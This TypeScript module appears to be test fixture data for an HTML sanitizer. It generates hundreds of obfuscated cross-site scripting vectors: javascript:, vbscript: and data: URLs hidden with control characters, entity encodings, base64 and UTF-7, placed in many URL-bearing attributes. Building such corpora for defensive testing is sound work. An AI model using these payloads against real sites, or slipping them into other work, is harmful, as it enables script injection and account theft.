import { run } from './run.ts';

/** Addresses that run where they are followed; `§` is their number. */
export const runningAddresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `\u001fjavascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `javascript\t:${run}`,
  `javascript://a.example/%0a${run}`,
  `javascript:/*--></title></style>*/${run}`,
  `javascript:void(${run})`,
  `javascript:${run},void 0`,
  `javascript:%61lert(§)`,
  `javascript:\u2028${run}`,
];

const inAttribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const links = runningAddresses.flatMap((address) => [
  `<a href="${inAttribute(address)}">click</a>`,
  `<a target=_self href="${inAttribute(address)}"><b>click</b></a>`,
]);

/** The signs that browsers drop in front of an address: the first 32, written as a reference. */
const before = Array.from({ length: 32 }, (_, at) => `<a href="&#${at + 1};javascript:${run}">click</a>`);

/** Those that they drop inside of one. */
const inside = ['&#9;', '&#10;', '&#13;', '&#x0A;', '&Tab;', '&NewLine;'].flatMap((sign) => [
  `<a href="j${sign}avascript:${run}">click</a>`,
  `<a href="javascript${sign}:${run}">click</a>`,
]);

/** A letter as a reference: with zeros, without an end, in both counts. */
const references = [
  ...['&#106', '&#0106', '&#00106', '&#000106', '&#0000106;', '&#00000106;', '&#x6a', '&#X6A', '&#x06a', '&#x0006A;'],
].map((letter) => `<a href="${letter}${letter.endsWith(';') ? '' : ';'}avascript:${run}">click</a>`);

const named = [
  `<a href="&#106;avascript:${run}">click</a>`,
  `<a href="&#x6A;avascript:${run}">click</a>`,
  `<a href="javascript&colon;${run}">click</a>`,
  `<a href="javascript&#58;${run}">click</a>`,
  `<a href="javascript&#x3a;${run}">click</a>`,
  `<a href="java&Tab;script:${run}">click</a>`,
  `<a href="java&NewLine;script:${run}">click</a>`,
  `<a href="javascript:alert&lpar;§&rpar;">click</a>`,
  `<a href="&NonBreakingSpace;javascript:${run}">click</a>`,
  `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${run}">click</a>`,
  `<a href=javascript:${run}>click</a>`,
  `<a href=\`javascript:${run}\`>click</a>`,
  `<a\nhref\n=\njavascript:${run}>click</a>`,
  `<a href="javascript:${run}" href="https://shiye.example/">click</a>`,
  `<a href="https://shiye.example/" href="javascript:${run}">click</a>`,
  `<a href="javascript:\\u0061lert(§)">click</a>`,
  `<a href="javascript:void\`\${${run}}\`">click</a>`,
  `<a href="javascript:top[/al/.source+/ert/.source](§)">click</a>`,
];

/** Schemes that run, ran once, or hide one that runs. */
const schemes = [
  ...[
    `vbscript:${run}`,
    `VbScRiPt:msgbox(§)`,
    `livescript:${run}`,
    `mocha:${run}`,
    `jscript:${run}`,
    `jav&#x09;ascript:${run}`,
  ],
  ...[`data:text/html,<script>parent.${run}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ...[`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`, `data:,${run}`],
  ...[`data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='${run}'/>`, `data:text/xml,${run}`],
  ...[
    `data:text/html;charset=utf-7,+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `DATA:TEXT/HTML,<img src=x onerror=${run}>`,
  ],
  ...[
    `feed:javascript:${run}`,
    `feed:feed:javascript:${run}`,
    `view-source:javascript:${run}`,
    `jar:javascript:${run}!/`,
  ],
  ...[
    `filesystem:https://evil.example/${run}`,
    `blob:https://evil.example/${run}`,
    `mhtml:https://evil.example!${run}`,
  ],
  ...[`ms-its:mhtml:file://c:\\${run}`, `res://ieframe.dll/${run}`, `about:blank#${run}`, `chrome://settings/${run}`],
  ...[`url:javascript:${run}`, `wyciwyg://0/${run}`, `intent://${run}#Intent;scheme=javascript;end`, `s:${run}`],
];

const otherSchemes = schemes.flatMap((address) => [`<a href="${address}">click</a>`]);
const framed = schemes
  .slice(0, 14)
  .flatMap((address) => [`<iframe src="${address}"></iframe>`, `<img src="${address}">`]);

/** Every attribute that holds an address, on the elements that had it. */
const places = [
  ...[
    'a ping',
    'applet code',
    'applet codebase',
    'applet archive',
    'area href',
    'audio src',
    'base href',
    'bgsound src',
  ],
  ...[
    'blockquote cite',
    'body background',
    'button formaction',
    'del cite',
    'div background',
    'embed src',
    'embed pluginspage',
  ],
  ...['form action', 'frame src', 'frame longdesc', 'head profile', 'html manifest', 'iframe longdesc', 'iframe src'],
  ...[
    'image src',
    'img dynsrc',
    'img longdesc',
    'img lowsrc',
    'img src',
    'img srcset',
    'img usemap',
    'input formaction',
  ],
  ...['input src', 'ins cite', 'layer src', 'link href', 'link imagesrcset', 'menuitem icon', 'object classid'],
  ...[
    'object codebase',
    'object data',
    'object usemap',
    'param value',
    'q cite',
    'script src',
    'source src',
    'source srcset',
  ],
  ...[
    'svg xml:base',
    'table background',
    'td background',
    'track src',
    'video poster',
    'video src',
    'xml src',
    'x itemid',
  ],
];

const inEveryPlace = places.map((place) => {
  const [tag, name] = place.split(' ');
  return `<${tag} ${name}="javascript:${run}">click</${tag}>`;
});

const others = [
  `<form action="javascript:${run}"><button>click</button></form>`,
  `<form><button formaction="javascript:${run}">click</button></form>`,
  `<form action="javascript:${run}"><input type=submit value=click></form>`,
  `<form><input type=submit formaction="javascript:${run}" value=click></form>`,
  `<form id=f9></form><button form=f9 formaction="javascript:${run}">click</button>`,
  `<form action="javascript:${run}"><input type=image src=x></form>`,
  `<map name=m><area href="javascript:${run}" shape=default></map><img usemap=#m>`,
  `<math><mtext><a href="javascript:${run}">click</a></mtext></math>`,
  `<math href="javascript:${run}">click</math>`,
  `<math xlink:href="javascript:${run}">click</math>`,
  `<math><maction actiontype=statusline#https://evil.example xlink:href="javascript:${run}">click</maction></math>`,
];

/** Addresses that run: how they are written, which they are, and where they stand. */
export const byAddress: readonly string[] = [
  ...[...links, ...before, ...inside, ...references, ...named],
  ...[...otherSchemes, ...framed, ...inEveryPlace, ...others],
];
